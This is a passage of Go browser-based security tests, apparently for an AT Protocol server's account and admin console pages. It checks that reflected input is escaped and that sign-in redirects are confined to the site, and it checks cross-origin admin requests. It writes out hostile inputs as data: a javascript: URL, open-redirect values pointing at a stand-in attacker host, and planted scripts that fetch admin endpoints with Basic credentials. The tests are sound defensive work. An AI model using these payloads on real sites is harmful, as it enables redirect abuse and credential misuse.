	clean(a.run("location.href"))
	for _, page := range []string{"/account/sessions?", "/account/app-passwords?", "/console/mails?", "/console/log?", "/console/accounts/DID?"} {
		if !shown[page] {
			a.t.Errorf("what a stranger chose is not on %s; it is on %v", page, shown)
		}
	}
	mark := url.QueryEscape(short)
	for _, u := range []string{
		"/account/data?after=" + mark, "/account/" + url.PathEscape(short), "/invite/" + url.PathEscape(short), "/account?x=" + mark,
		"/console/" + url.PathEscape(short), "/console/accounts/" + url.PathEscape(short), "/console/accounts/" + alice.String() + "/" + url.PathEscape(short),
		"/console/accounts?q=" + mark, "/console/accounts?status=" + mark, "/console/accounts?domain=" + mark, "/console/accounts?since=" + mark,
		"/console/accounts?cursor=" + mark, "/console/invites?sort=" + mark, "/console/invites?cursor=" + mark, "/console/invites/disable?code=" + mark,
		"/console/domains/remove?domain=" + mark, "/console/mails?state=" + mark, "/console/mails?cursor=" + mark, "/console/mails/" + url.PathEscape(short) + "/delete",
		"/console/log?cursor=" + mark, "/console/budgets?who=" + mark, "/console/quarantine?domain=" + mark,
	} {
		a.open("https://" + stageHost + u)
		clean(u)
	}
	// What is typed comes back with the refusal.
	a.open(accountPages + "/handle")
	a.submit("form#change-handle", "handle", short)
	clean("a handle that is refused")
	a.submit("form.out")
	a.submit("form#sign-in", "identifier", short, "password", "wrong")
	clean("a sign-in that is refused")
	if !shown[shape("a sign-in that is refused")] {
		a.t.Errorf("the identifier is not typed again:\n%s", a.text())
	}
	for _, next := range []string{"javascript:top.__pwned=1", "https://" + evilHost + "/", "//" + evilHost + "/", `/\` + evilHost + "/", "/console/../account", "/console//" + evilHost, short} {
		a.forgetCookies()
		a.open(publicConsole + "/sign-in?next=" + url.QueryEscape(next))
		clean(next)
		a.submit(`form[action="/console/sign-in"]`, "password", stagePassword)
		if got := a.run("location.origin + location.pathname"); !strings.HasPrefix(got, publicConsole) {
			a.t.Errorf("signing in leads to %s by %q", got, next)
		}
		clean("after " + next)
	}
	for _, c := range a.complaints {
		if strings.Contains(c, "Content Security Policy") || strings.Contains(c, "Trusted") {
			a.t.Errorf("the policy had to stop something: %s", c)
		}
	}
}

// passwords has pages of another site send the operator's password, as a browser does that
// knows it, and asks for pages with it.
func (a *attack) passwords() {
	a.forgetCookies()
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("admin:"+stagePassword))
	const path = "/xrpc/com.atproto.admin.getAccountInfo"
	asked := "https://" + stageHost + path + "?did=" + a.alice.did.String()
	for host, want := range map[string]int{evilHost: http.StatusForbidden, handleHost: http.StatusForbidden, stageHost: http.StatusOK} {
		a.took()
		a.open(a.put(host, "/planted-basic", "text/html", `<script>window.__status = 0; fetch('`+asked+`', {headers: {Authorization: '`+basic+`'}}).then(a => window.__status = a.status, () => window.__status = -1)</script>`))
		a.until("an answer", `window.__status !== 0`)
		got := a.awaits("the call", 1, func(one seen) bool { return one.path == path && one.verb == http.MethodGet })
		if got[0].status != want {
			a.t.Errorf("from %s: %v, want %d", host, got[0], want)
		}
	}
	// In a URL, it is kept until a server asks for it.
	a.took()
	a.open("https://admin:" + url.QueryEscape(stagePassword) + "@" + stageHost + path + "?did=" + a.alice.did.String())
	if got := a.awaits("the call", 1, func(one seen) bool { return one.path == path }); got[0].status != http.StatusUnauthorized {
		a.t.Errorf("with a password in the URL: %v", got[0])
	}
	for _, page := range []string{publicConsole + "/accounts", accountPages + "/sessions"} {
		a.open(a.put(stageHost, "/planted-basic", "text/html", `<script>fetch('`+page+`', {headers: {Authorization: '`+basic+`'}}).then(a => a.text()).then(t => window.__got = t)</script>`))
		a.until("a page", `window.__got !== undefined`)
		if got := a.run("window.__got"); strings.Contains(got, "alice") || !strings.Contains(got, "Sign in") {
			a.t.Errorf("%s with the admin password is\n%s", page, got)
		}
	}
}
